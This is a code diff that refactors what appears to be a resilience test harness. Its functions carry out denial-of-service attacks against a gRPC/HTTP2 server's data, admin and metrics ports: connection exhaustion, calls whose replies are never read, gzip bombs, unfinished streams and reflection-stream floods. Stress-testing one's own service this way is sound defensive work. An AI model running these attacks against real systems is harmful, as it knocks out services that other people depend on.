@@ -47,20 +47,34 @@ def dial(address):
     return socket.create_connection((host, int(port)), timeout=5)
 
 
+def keep(most, make, is_gone, deadline):
+    """Holds so many, and replaces those that the server ends. How many were made."""
+    held, made = [], 0
+    for _ in until(deadline):
+        with contextlib.suppress(OSError):
+            while len(held) < most and time.monotonic() < deadline:
+                held.append(make())
+                made += 1
+        held = [one for one in held if not is_gone(one)]
+        time.sleep(0.05)
+    return made
+
+
+def with_calls(address, count, path, payload, **options):
+    """A connection with so many calls under way."""
+    one = Connection(address, **options)
+    for _ in range(count):
+        one.call(path, payload)
+    return one
+
+
 # --- connections ---
 
 @attack
 def bare_connections(target, deadline):
     """Opened and left alone; one that is cut is replaced."""
-    held, opened = [], 0
-    for _ in until(deadline):
-        with contextlib.suppress(OSError):
-            while len(held) < 1_100:
-                held.append(dial(target.data))
-                opened += 1
-        held = [one for one in held if not is_cut(one)]
-        time.sleep(0.05)
-    return f"1,100 connections without a byte, {opened:,} opened in all"
+    made = keep(1_100, lambda: dial(target.data), is_cut, deadline)
+    return f"1,100 connections without a byte, {made:,} opened in all"
 
 
 def is_cut(one):
@@ -89,18 +103,9 @@ def connections_one_after_another(target, deadline):
 @attack
 def callers_who_never_leave(target, deadline):
     """A call on each connection, which is then kept."""
-    held, opened = [], 0
-    for _ in until(deadline):
-        with contextlib.suppress(OSError):
-            if len(held) < 900:
-                one = Connection(target.data, reads=False)
-                one.call(KV + "Get", field(1, b"key"))
-                held.append(one)
-                opened += 1
-                continue
-        held = [one for one in held if not is_cut(one.socket)]
-        time.sleep(0.05)
-    return f"{opened:,} connections with one Get each, kept open"
+    made = keep(900, lambda: with_calls(target.data, 1, KV + "Get", field(1, b"key"), reads=False),
+                lambda one: is_cut(one.socket), deadline)
+    return f"{made:,} connections with one Get each, kept open"
 
 
 # --- what gRPC holds before anybody is asked ---
@@ -150,7 +155,7 @@ def announced_and_unfinished_messages(target, deadline):
     streams = sent = 0
     for _ in until(deadline):
         with contextlib.suppress(OSError), http2_client.Client(target.data) as client:
-            numbers = [client.start_call((KV + "BatchWrite").encode())
+            numbers = [client.start_call(KV + "BatchWrite")
                        for _ in range(min(120, client.max_streams))]
             streams += len(numbers)
             for number in numbers:
@@ -168,7 +173,7 @@ def announced_and_unfinished_messages(target, deadline):
 
 @attack
 def gzip_bombs(target, deadline):
-    bomb = message(gzip.compress(b"\0" * (900 << 20), 9), compressed=True)
+    bomb = message(gzip.compress(b"\0" * (256 << 20), 9), compressed=True)
     calls = 0
     for _ in until(deadline):
         with contextlib.suppress(OSError):
@@ -182,7 +187,7 @@ def gzip_bombs(target, deadline):
             calls += 1
             time.sleep(0.3)
             one.close()
-    return f"{calls:,} messages of {len(bomb) / 1e6:.1f} MB that inflate to 900 MiB"
+    return f"{calls:,} messages of {len(bomb) / 1e6:.1f} MB that inflate to 256 MiB"
 
 
 @attack
@@ -250,22 +255,12 @@ def rapid_reset_on_the_admin_port(target, deadline):
 @attack
 def scans_that_nobody_reads(target, deadline):
     """Three hundred, over twenty connections whose windows are open and whose sockets are full."""
-    held = []
-    for _ in until(deadline):
-        with contextlib.suppress(OSError):
-            if len(held) < 20:
-                one = Connection(target.data, window=(1 << 31) - 1, reads=False,
-                                 receive_buffer=4_096)
-                for _ in range(15):
-                    one.call(KV + "Scan", b"")
-                held.append(one)
-                continue
-        held = [one for one in held if not is_gone(one)]
-        time.sleep(0.02)
+    keep(20, lambda: with_calls(target.data, 15, KV + "Scan", b"", window=(1 << 31) - 1,
+                                reads=False, receive_buffer=4_096), is_reset, deadline)
     return "300 Scans over 20 connections"
 
 
-def is_gone(one):
+def is_reset(one):
     """Whether the server has reset the connection; there is always something to read."""
     return one.socket.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0
 
@@ -303,17 +298,13 @@ def batches_over_the_limit(target, deadline):
 
 @attack
 def streams_of_reflection(target, deadline):
-    held = []
-    for _ in until(deadline):
-        with contextlib.suppress(OSError):
-            if len(held) < 8:
-                one = Connection(target.admin)
-                for _ in range(60):
-                    stream = one.next_stream()
-                    one.send(frame(HEADERS, END_HEADERS, stream, header_block(REFLECTION)))
-                held.append(one)
-                continue
-        time.sleep(0.1)
+    def make():
+        one = Connection(target.admin)
+        for _ in range(60):
+            one.send(frame(HEADERS, END_HEADERS, one.next_stream(), header_block(REFLECTION)))
+        return one
+
+    keep(8, make, lambda one: False, deadline)
     return "480 streams of reflection kept open on the admin port"
 
 
@@ -333,14 +324,7 @@ def checks_in_a_loop(target, deadline):
 
 @attack
 def idle_connections_of_the_metrics(target, deadline):
-    held = []
-    for _ in until(deadline):
-        with contextlib.suppress(OSError):
-            if len(held) < 200:
-                held.append(dial(target.metrics))
-                continue
-        held = [one for one in held if not is_cut(one)]
-        time.sleep(0.05)
+    keep(200, lambda: dial(target.metrics), is_cut, deadline)
     return "200 connections that ask nothing on the metrics' port"
 
 
